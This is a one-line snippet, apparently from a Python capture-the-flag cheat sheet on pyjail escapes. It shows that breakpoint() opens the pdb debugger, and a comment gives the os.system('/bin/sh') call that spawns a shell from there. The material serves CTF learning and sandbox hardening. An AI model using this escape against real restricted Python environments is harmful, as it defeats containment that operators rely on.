# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Spawning a shell: breakpoint())
# Family: breakpoint
# What: breakpoint() drops into pdb, where 'import os; os.system("/bin/sh")' runs
breakpoint()
